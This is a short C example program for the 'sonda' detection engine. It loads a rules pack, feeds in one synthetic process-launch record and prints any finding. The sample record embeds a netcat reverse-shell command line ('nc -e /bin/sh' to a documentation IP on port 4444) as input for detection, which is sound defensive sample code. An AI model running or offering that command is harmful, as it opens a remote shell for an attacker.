/* SPDX-License-Identifier: Apache-2.0 */

/*
 * The smallest embedder: load content, feed a record, print the finding.
 *
 *   sonda compile content/rules -o rules.pack
 *   cc embed.c $(pkg-config --cflags --libs sonda) -o embed
 *   ./embed rules.pack
 *
 * main() is the ten lines; what stands above it belongs to any program.
 */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sonda/sonda.h>

static void must(sonda_status status, const char *what)
{
    if (status != SONDA_OK) {
        fprintf(stderr, "%s: %s\n", what, sonda_status_text(status));
        exit(1);
    }
}

static void *read_file(const char *path, size_t *len)
{
    FILE *file = fopen(path, "rb");
    char *bytes = malloc(SONDA_RECORD_MAX);

    *len = file != NULL && bytes != NULL ? fread(bytes, 1, SONDA_RECORD_MAX, file) : 0;
    if (file != NULL) {
        fclose(file);
    }
    return bytes;
}

/* A sensor of your own would put here what it saw. */
static size_t make_record(uint8_t *record, size_t room)
{
    static const char image[] = "/usr/bin/nc";
    static const char command_line[] = "nc -e /bin/sh 203.0.113.7 4444";
    sonda_record_header header;
    sonda_record_builder builder;
    size_t len = 0;

    memset(&header, 0, sizeof header);
    header.wall_ns = 1721362140000000000u;
    sonda_record_begin(&builder, record, room, &header, SONDA_CLASS_PROCESS,
                       SONDA_PROCESS_LAUNCH, SONDA_PRODUCT_LINUX);
    sonda_record_add(&builder, SONDA_FIELD_IMAGE, image, sizeof image - 1);
    sonda_record_add(&builder, SONDA_FIELD_COMMAND_LINE, command_line, sizeof command_line - 1);
    must(sonda_record_finish(&builder, SONDA_SOURCE_GENERIC, 0, &len), "record");
    return len;
}

static void print_finding(const sonda_finding *finding, void *user)
{
    sonda_rule_view rule = SONDA_RULE_VIEW_INIT;
    sonda_evidence_view why = SONDA_EVIDENCE_VIEW_INIT;

    (void)user;
    must(sonda_finding_rule(finding, &rule), "rule");
    printf("%.*s", (int)rule.title.len, rule.title.data);
    if (sonda_finding_evidence(finding, 0, &why) == SONDA_OK) {
        printf(": %.*s is %.*s", (int)why.field_len, why.field, (int)why.value_len, why.value);
    }
    printf("\n");
}

int main(int argc, char **argv)
{
    sonda_content_options unsigned_too = SONDA_CONTENT_OPTIONS_INIT;
    sonda_worker_options options = SONDA_WORKER_OPTIONS_INIT;
    sonda_content *content;
    sonda_engine *engine;
    sonda_tracker *tracker;
    sonda_worker *worker;
    uint8_t record[1024];
    size_t pack_len = 0;
    void *pack = argc == 2 ? read_file(argv[1], &pack_len) : NULL;

    options.on_finding = print_finding;
    unsigned_too.require_signature = 0; /* an example; your product signs its packs */
    must(sonda_content_load(&content, pack, pack_len, &unsigned_too, NULL, NULL), "pack");
    must(sonda_engine_open(&engine, NULL, NULL), "engine");
    must(sonda_engine_publish(engine, content), "publish");
    must(sonda_tracker_open(&tracker, NULL, NULL), "tracker");
    must(sonda_worker_open(&worker, engine, tracker, &options, NULL), "worker");
    must(sonda_worker_process(worker, record, make_record(record, sizeof record), 0),
         "process");

    sonda_worker_close(worker);
    sonda_tracker_close(tracker);
    sonda_engine_close(engine);
    sonda_content_release(content);
    free(pack);
    return 0;
}
